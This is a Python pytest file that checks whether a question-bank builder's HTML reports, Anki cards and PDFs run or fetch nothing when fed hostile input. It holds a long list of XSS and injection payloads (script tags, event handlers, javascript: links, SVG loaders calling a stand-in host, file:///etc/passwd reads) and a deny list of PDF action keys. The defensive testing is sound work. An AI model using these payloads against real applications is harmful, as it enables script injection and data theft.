"""Nothing of a source runs or fetches: looked at in a browser, in Anki's engine, and in the PDFs.

Every attack stands in all places of a document that text can stand in. What runs would open a
dialog or ask for an address; the browser's log of both has to be empty.
"""

from __future__ import annotations

import re
from collections.abc import Iterator, Mapping
from dataclasses import dataclass, field
from pathlib import Path
from typing import TYPE_CHECKING

import pytest
from anki.collection import Collection, ImportAnkiPackageRequest
from pypdf import PdfReader
from pypdf.generic import ArrayObject, DictionaryObject, IndirectObject
from sample_pictures import png

from shuati.config.sheet_names import SHEETS
from shuati.pipeline.bank import Plan
from shuati.pipeline.build import build
from shuati.pipeline.progress import Progress

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Page

_FAR = "https://e.example"
ATTACKS = {
    "script": "<script>alert(1)</script>",
    "script-src": f'<script src="{_FAR}/x.js"></script>',
    "script-end": "</script><script>alert(1)</script>",
    "style-end": "</style><script>alert(1)</script>",
    "title-end": "</title><script>alert(1)</script>",
    "textarea-end": "</textarea><script>alert(1)</script>",
    "comment-end": "--><script>alert(1)</script><!--",
    "img-onerror": '<img src="x" onerror="alert(1)">',
    "img-unquoted": "<img src=x onerror=alert(1)>",
    "img-slash": "<img/src=x/onerror=alert(1)>",
    "img-alt": '<img src="good.png" alt="&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;">',
    "img-alt-quote": "<img src=good.png alt='\" onload=alert(1) x=\"'>",
    "picture-alt": '![" onload=alert(1) x="](good.png)',
    "picture-title": '![a](good.png "\\" onload=alert(1) x=\\"")',
    "picture-remote": f"![远]({_FAR}/a.png)",
    "picture-protocol": "![远](//e.example/a.png)",
    "picture-file": "![近](file:///etc/passwd)",
    "picture-outside": "![外](../../outside.png)",
    "picture-embed": f"![[{_FAR}/a.png]]",
    "picture-svg": "![绘](bad.svg)",
    "picture-script": "![x](javascript:alert(1).png)",
    "img-remote": f'<img src="{_FAR}/a.png" srcset="{_FAR}/b.png 2x">',
    "handler": '<b onmouseover="alert(1)" onclick="alert(1)">指</b>',
    "handler-focus": '<input autofocus onfocus="alert(1)">',
    "details": '<details open ontoggle="alert(1)"><summary>看</summary>里</details>',
    "svg": "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "svg-use": f'<svg><use href="{_FAR}/x.svg#a"/><image href="{_FAR}/a.png"/></svg>',
    "math": '<math><mtext><img src=x onerror="alert(1)"></mtext></math>',
    "iframe": f'<iframe src="{_FAR}"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "object": f'<object data="{_FAR}/x"></object><embed src="{_FAR}/x">',
    "video": f'<video src="{_FAR}/x" poster="{_FAR}/y" autoplay onerror="alert(1)"></video>',
    "link": f'<link rel="stylesheet" href="{_FAR}/x.css"><link rel="prefetch" href="{_FAR}/y">',
    "meta": f'<meta http-equiv="refresh" content="0;url={_FAR}">',
    "base": f'<base href="{_FAR}/">',
    "form": f'<form action="{_FAR}"><button formaction="javascript:alert(1)">按</button></form>',
    "style": f"<style>@import url({_FAR}/x.css); body {{ background: url({_FAR}/a.png) }}</style>",
    "font": f"<style>@font-face {{ font-family: x; src: url({_FAR}/x.woff) }}</style>",
    "style-attribute": f'<p style="background: url({_FAR}/a.png)">段</p>',
    "style-import": f"<p style=\"@import '{_FAR}/x.css'\">段</p>",
    "background": f'<table background="{_FAR}/a.png"><td background="{_FAR}/b.png">格</td></table>',
    "javascript": '<a href="javascript:alert(1)">点</a>',
    "javascript-markdown": "[点](javascript:alert(1)) <javascript:alert(1)>",
    "javascript-coded": '<a href="&#106;ava&#x0A;script:alert(1)">点</a>',
    "link-far": f'[远]({_FAR}/page) <a href="{_FAR}/page" ping="{_FAR}/ping">远</a>',
    "link-data": '<a href="data:text/html,<script>alert(1)</script>">点</a>',
    "link-file": "[近](file:///etc/passwd)",
    "mutation": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "mutation-table": "<table><td><style><!--</style><img src=x onerror=alert(1)>--></table>",
    "foreign": "<svg><foreignObject><iframe onload=alert(1)></iframe></foreignObject></svg>",
    "entity": "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
    "attribute-end": '"><script>alert(1)</script>',
    "jinja": "{{ 7 * 191 }} {% for x in range(9) %}{{ self }}{% endfor %} {# x #}",
    "anki-field": "{{题目}} {{Tags}} {{#答案}}x{{/答案}} {{cloze:题目}}",
    "cloze": "{{c1::空::<script>alert(1)</script>}} {{c99::空}} }}",
    "sound": f"[sound:{_FAR}/x.mp3] [anki:play:q:0] [anki:tts lang=zh]x[/anki:tts]",
    "latex": "[latex]\\input{/etc/passwd}[/latex] [$]x[/$] [$$]x[/$$]",
    "href": f"$\\href{{javascript:alert(1)}}{{x}}$ $$\\href{{{_FAR}}}{{x}}$$",
    "mathjax": "\\(\\require{html}\\href{javascript:alert(1)}{x}\\) $\\style{color:url(x)}{y}$",
    "mathjax-text": "`\\(` \\\\(x\\\\) <b>\\\\</b>(\\href{javascript:alert(1)}{x}\\\\)",
    "control": "<scr&#1;ipt>alert(1)</scr&#1;ipt> <scr\u200bipt>alert(1)</script>"
    " <img src=x one\u00adrror=alert(1)>",
    "wide": "＜script＞alert(1)＜/script＞ \u202e<script>alert(1)</script>",
}  # fmt: skip
_BAD_SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '
    f'onload="alert(1)" width="9" height="9"><script>alert(1);fetch("{_FAR}/f")</script>'
    f'<image xlink:href="{_FAR}/a.png" width="9" height="9"/><style>@import "{_FAR}/x";</style>'
    f'<foreignObject><img xmlns="http://www.w3.org/1999/xhtml" src="{_FAR}/b"/>'
    '</foreignObject><circle r="4"/></svg>'
)
# What a person may do: point at everything, press it, open it.
_TOUCH = """() => {
  document.querySelectorAll('details').forEach(one => one.open = true);
  for (const one of [...document.querySelectorAll('body, body *')].slice(0, 4000))
    for (const kind of ['mouseover', 'mouseenter', 'focus', 'toggle', 'load', 'error', 'wheel'])
      one.dispatchEvent(new Event(kind, {bubbles: false}));
}"""
# The reviewer of Anki: no policy of its own, so that what could run here does.
_CARD = (
    '<!doctype html><meta charset="utf-8"><style>{css}</style>'
    '<body class="card"><div id="qa">{html}</div></body>'
)


def _document(attack: str) -> str:
    line = attack.replace("\n", " ")
    cell = line.replace("|", "\\|")
    return f"""# {line}

## {line}

### 1. 甲 {line} 是什么？

{line}

**答案：** 其一 {line} 其二。

- **词 {line}：** 说明 {line}
- **另一词：** 说明
- **第三词：** {line}

| 头 {cell} | 头 |
|---|---|
| {cell} | 格 |

> 引 {line}

<div>{line}</div>

```{line.replace("`", "")}
{line}
```

`{line}` 与 **{line}** 与 $${line}$$

**解析 {line}：** {line}

### 2. 乙 {line} 怎么用？

{attack}
"""


@dataclass
class _Log:
    """What a page did, beside opening the ``allowed`` addresses."""

    allowed: set[str] = field(default_factory=set)
    wrong: list[str] = field(default_factory=list)

    def request(self, address: str) -> None:
        if address not in self.allowed:
            self.wrong.append(f"asks for {address}")


def _output(folder: Path, documents: Mapping[str, str], parts: str) -> Path:
    """The output of a bank of ``documents`` (name → text)."""
    patch = pytest.MonkeyPatch()
    patch.setenv("XDG_CACHE_HOME", str(folder / "cache"))
    sources = folder / "project" / "sources"
    sources.mkdir(parents=True)
    (sources / "good.png").write_bytes(png())
    (sources / "bad.svg").write_text(_BAD_SVG, "utf-8")
    (folder / "outside.png").write_bytes(png(9))
    for name, text in documents.items():
        (sources / f"{name}.md").write_text(text, "utf-8")
    title = "</title></script><script>alert(1)</script>"
    own = f'title = \'{title}\'\nnotes = ["问答", "要点", "术语"]\nkeywords = 2\n'
    (sources / "shuati.toml").write_text(own, "utf-8")
    output = folder / "project" / "output"
    build(Plan(sources, output, sources / "ledger.json", frozenset(parts.split())), Progress())
    patch.undo()
    return output


@pytest.fixture(scope="module")
def output(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Deck and report of a bank in which every attack has a document, and one its name."""
    documents = {name: _document(attack) for name, attack in ATTACKS.items()}
    documents['"><img src=x onerror=alert(1)>'] = _document("<b>名</b>")
    return _output(tmp_path_factory.mktemp("attacked"), documents, "deck report")


@pytest.fixture(scope="module")
def sheets(tmp_path_factory: pytest.TempPathFactory) -> list[Path]:
    """The sheets of a bank with every attack; in fewer places, as printing takes long."""
    asked = (
        f"### {number}. {name} {attack}？\n\n其一 {attack}\n\n- **词：** {attack}\n- 二\n- 三\n"
        for number, (name, attack) in enumerate(ATTACKS.items(), 1)
    )
    text = "\n".join(one.replace("<!--", "") for one in asked)
    folder = tmp_path_factory.mktemp("printed")
    output = _output(folder, {"题": f"# {ATTACKS['title-end']}\n\n{text}"}, " ".join(SHEETS))
    return sorted(output.glob("*.pdf"))


@pytest.fixture
def watched(browser: Browser) -> Iterator[tuple[Page, _Log]]:
    """A page whose requests, dialogs and messages are logged; nothing leaves the machine."""
    log = _Log()
    context = browser.new_context(offline=True)
    page = context.new_page()
    page.on("request", lambda request: log.request(request.url))
    page.on("dialog", lambda dialog: (log.wrong.append("dialog"), dialog.dismiss()))
    page.on("console", lambda message: log.wrong.append(message.text))
    page.on("pageerror", lambda error: log.wrong.append(str(error)))
    context.on("page", lambda opened: log.wrong.append(f"opens {opened.url}"))
    yield page, log
    context.close()


def test_the_log_sees_what_runs_and_what_is_fetched(
    watched: tuple[Page, _Log], tmp_path: Path
) -> None:
    """Without this an empty log would prove nothing."""
    page, log = watched
    for number, attack in enumerate(
        (ATTACKS["script"], ATTACKS["img-remote"], ATTACKS["style"], ATTACKS["handler"])
    ):
        file = tmp_path / f"{number}.html"
        file.write_text(_CARD.format(css="", html=attack), "utf-8")
        log.allowed, before = {file.as_uri()}, len(log.wrong)
        page.goto(file.as_uri())
        page.evaluate(_TOUCH)
        page.wait_for_timeout(50)
        assert len(log.wrong) > before, attack


def test_the_report_runs_and_fetches_nothing(watched: tuple[Page, _Log], output: Path) -> None:
    page, log = watched
    report = output / "report.html"
    log.allowed = {report.as_uri()}
    page.goto(report.as_uri())
    page.evaluate(_TOUCH)
    page.wait_for_timeout(200)
    assert log.wrong == []
    assert "1337" not in page.inner_text("body")
    scripts = page.evaluate("[...document.scripts].map(one => one.attributes.length)")
    assert scripts == [0]
    active = "[src], base, object, embed, form:not([method=dialog])"
    assert page.evaluate(f"document.querySelectorAll('{active}').length") == 0
    links = page.evaluate(
        "[...document.querySelectorAll('[href]')].map(o => o.getAttribute('href'))"
    )
    assert all(str(link).startswith("#") for link in links)


def test_every_side_of_every_card_runs_and_fetches_nothing(
    watched: tuple[Page, _Log], output: Path, tmp_path: Path
) -> None:
    """As Anki's engine renders it, in the folder of its pictures, without any policy."""
    page, log = watched
    (deck,) = output.glob("*.apkg")
    collection = Collection(str(tmp_path / "collection.anki2"))
    try:
        collection.import_anki_package(ImportAnkiPackageRequest(package_path=str(deck)))
        media = Path(collection.media.dir())
        own = {file.as_uri() for file in media.iterdir()}
        assert {Path(uri).suffix for uri in own} == {".png", ".svg"}
        cards = [collection.get_card(one) for one in collection.find_cards("")]
        assert len(cards) > 2 * len(ATTACKS)
        for card in cards:
            rendered = card.render_output()
            assert not rendered.question_av_tags
            assert not rendered.answer_av_tags
            for html in (rendered.question_text, rendered.answer_text):
                assert "1337" not in html
                assert "anki-error" not in html
                formulas = re.findall(r'class="math">(.*?)</(?:span|div)>', html, re.DOTALL)
                assert not any(re.search(r"\\(href|style|require)", one) for one in formulas)
        assert collection.media.check().missing == []
        sides = [
            text
            for card in cards
            for text in (card.render_output().question_text, card.render_output().answer_text)
        ]
        css = cards[0].render_output().css
        file = media / "cards.html"
        for start in range(0, len(sides), 60):
            whole = "<hr>".join(f"<div>{html}</div>" for html in sides[start : start + 60])
            file.write_text(_CARD.format(css=css, html=whole), "utf-8")
            log.allowed = own | {file.as_uri()}
            page.goto(file.as_uri())
            page.evaluate(_TOUCH)
            page.wait_for_timeout(50)
            assert log.wrong == []
            assert page.evaluate("document.querySelectorAll('script, [href], form').length") == 0
        for picture in own:  # a picture that is opened by itself
            log.allowed = {picture}
            page.goto(picture)
            page.wait_for_timeout(50)
            assert log.wrong == []
    finally:
        collection.close()


def _objects(value: object, seen: set[int]) -> Iterator[DictionaryObject]:
    """Every dictionary that a PDF reaches from ``value``."""
    todo = [value]
    while todo:
        one = todo.pop()
        if isinstance(one, IndirectObject):
            if one.idnum in seen:
                continue
            seen.add(one.idnum)
            one = one.get_object()
        if isinstance(one, DictionaryObject):
            yield one
            todo += one.values()
        elif isinstance(one, ArrayObject):
            todo += one


def test_a_sheet_leads_to_its_own_pages_and_to_the_other_sheets_alone(sheets: list[Path]) -> None:
    names = {sheet.name for sheet in sheets}
    assert len(names) == len(SHEETS)
    forbidden = {
        "/JS",
        "/JavaScript",
        "/AA",
        "/EmbeddedFiles",
        "/EF",
        "/RichMedia",
        "/URI",
        "/FFilter",
    }
    links = 0
    for sheet in sheets:
        reader = PdfReader(sheet)
        assert "script" in "".join(page.extract_text() for page in reader.pages)
        for one in _objects(reader.trailer, set()):
            assert not {str(key) for key in one} & forbidden
            action = one.get("/A")
            if isinstance(action, IndirectObject):
                action = action.get_object()
            if isinstance(action, DictionaryObject):
                links += 1
                assert action["/S"] in ("/GoTo", "/GoToR")
                assert action["/S"] == "/GoTo" or _file(action["/F"]) in names
            assert one.get("/S") not in ("/Launch", "/SubmitForm", "/ImportData", "/Rendition")
    assert links


def _file(named: object) -> str:
    """The file that a link to another PDF names."""
    return str(named["/F"] if isinstance(named, DictionaryObject) else named)
